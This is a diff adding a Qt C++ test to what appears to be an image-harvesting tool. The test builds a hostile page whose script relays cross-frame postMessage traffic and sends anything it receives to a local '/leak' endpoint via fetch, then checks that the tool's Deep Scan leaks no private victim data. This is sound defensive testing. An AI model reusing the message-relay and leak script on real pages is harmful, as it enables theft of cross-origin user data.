@@ -113,6 +113,44 @@ private slots:
                  server.url("deep/pictures/big%20photo.webp"));
     }
 
+    // A hostile top page with a hostile frame that forwards every message it gets, and a
+    // victim frame of a third origin: Deep Scan lists the victim's picture, and nothing
+    // the page's scripts see lets them read it.
+    void hostileFramesLearnNothingFromDeepScan() {
+        const QString victim = server.url("deep/victim.html").replace("127.0.0.1", "localhost");
+        server.setFile("/deep/victim.html", "<img src='victim-private-SESSION987.png'>");
+        otherOrigin.setFile("/deep/forwarder.html",
+                            "<script>addEventListener('message', function (e) {"
+                            "  parent.postMessage({forwarded: e.data}, '*'); });</script>");
+        server.setFile(
+            "/deep/attack.html",
+            ("<iframe src='" + otherOrigin.url("deep/forwarder.html") +
+             "'></iframe>"
+             "<iframe src='" +
+             victim +
+             "'></iframe><script>"
+             "function leak(data) { fetch('/leak?' + encodeURIComponent(JSON.stringify(data))); }"
+             "addEventListener('message', function (e) {"
+             "  leak(e.data);"
+             "  if (!e.data || !e.data.forwarded) return;"
+             "  var channel = new MessageChannel();"
+             "  channel.port1.onmessage = function (answer) { leak(answer.data); };"
+             "  frames[1].postMessage(e.data.forwarded, '*', [channel.port2]);"
+             "  frames[1].postMessage(e.data.forwarded, '*'); });</script>")
+                .toUtf8());
+        server.clearRequests();
+        const ToolRun run = runHarvestTool({"--deep", server.url("deep/attack.html")});
+        QVERIFY2(run.output.contains("victim-private-SESSION987.png\t" + victim.chopped(11) +
+                                     "victim-private-SESSION987.png"),
+                 qPrintable(run.output));
+        QStringList leaks;
+        for (const HttpRequest& request : server.requests())
+            if (request.path.startsWith("/leak?"))
+                leaks << QUrl::fromPercentEncoding(request.path);
+        QVERIFY2(!leaks.isEmpty(), "the forwarder forwarded nothing");
+        QVERIFY2(leaks.filter("SESSION987").isEmpty(), qPrintable(leaks.join('\n')));
+    }
+
     void scrollsUntilThePageStopsGrowing() {
         const QString threeMore = server.url("deep/endless.html?batches=4");
         QCOMPARE(runHarvestTool({threeMore}).output.section('\n', 0, 0), "images 4 4");
